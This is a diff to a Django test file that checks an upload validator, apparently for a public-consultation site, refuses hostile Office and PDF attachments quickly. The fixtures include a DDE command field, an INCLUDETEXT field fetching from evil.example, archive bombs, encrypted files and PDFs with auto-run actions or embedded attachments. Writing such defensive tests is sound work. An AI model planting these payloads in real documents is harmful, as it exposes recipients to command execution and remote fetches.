@@ -1,16 +1,20 @@
 """Files of strangers are work: cheap questions come first, every post counts, and what takes long makes nobody late."""
 
+import time
 from datetime import timedelta
 from html import escape
 
 import pytest
+from django.core.exceptions import ValidationError
 from django.test import Client
 from django.utils import timezone
 
 from consultation_pages.models import Consultation
 from contributions import attachments
 from contributions.models import Contribution
+from core import pdfs
 from tests.contributions.sending import aged_token, close, docx, open_consultation, post, upload
+from tests.core import hostile_files as files
 
 pytestmark = pytest.mark.django_db
 KEPT = "Neni 5 është i paqartë.\nČlan 5 <b>nije jasan</b>."
@@ -118,3 +122,44 @@ def test_looking_at_files_makes_nobody_late(consultation, monkeypatch):
     monkeypatch.setattr(attachments, "kind_of", slowly)
     assert post(consultation, files=upload(docx())).status_code == 303
     assert Contribution.objects.get().attachments.count() == 1
+
+
+BOMB = files.office(**{"word/_rels/document.xml.rels": f"<Relationships>{files.SWOLLEN * 600_000}</Relationships>"})
+
+
+@pytest.mark.parametrize(
+    ("content", "code"),
+    [
+        (files.field("DDE", "AUTO cmd x"), "macros"),
+        (files.naming("text:dde-connection-decl", ""), "macros"),
+        (files.field("INCLUDETEXT https://evil.example/a.docx"), "remote_parts"),
+        (files.encrypted_archive(), "encrypted_file"),
+        (files.overlapping_archive(), "archive_bomb"),
+        (BOMB, "archive_bomb"),
+        *((content, "too_complicated") for content in files.TOO_MUCH),
+        (files.words(files.BEGIN + files.code("PAGE") + files.END + "<w:r/>" * 100_000), "too_complicated"),
+        (files.pdf("x", change=files.locked), "encrypted_file"),
+        (files.raw_pdf(catalog=b"/OpenAction" + files.URI), "active_file"),
+        (files.raw_pdf(page=files.annotation(b"/Subtype/FileAttachment/FS 4 0 R")), "active_file"),
+        (b"%PDF-1.7 and nothing more", "damaged_file"),
+    ],
+)
+def test_what_is_refused_and_how_soon(content, code):
+    """Of the site's own time: PDFs have a process of theirs."""
+    begun = time.process_time()
+    with pytest.raises(ValidationError) as caught:
+        attachments.kind_of(content)
+    assert caught.value.error_list[0].code == code
+    assert time.process_time() - begun < 0.5
+
+
+def test_a_pdf_that_cannot_be_checked_in_time_is_refused(monkeypatch):
+    monkeypatch.setattr(pdfs, "_output", lambda file, tells_all: '{"encrypted": false}\n')
+    with pytest.raises(ValidationError) as caught:
+        attachments.kind_of(files.pdf("x"))
+    assert caught.value.code == "too_complicated"
+
+
+@pytest.mark.parametrize(("kind", "content"), [each for each in files.HARMLESS if each[0] in attachments.MEDIA_TYPES])
+def test_links_and_fields_that_fetch_nothing_come_in(kind, content):
+    assert attachments.kind_of(content) == kind
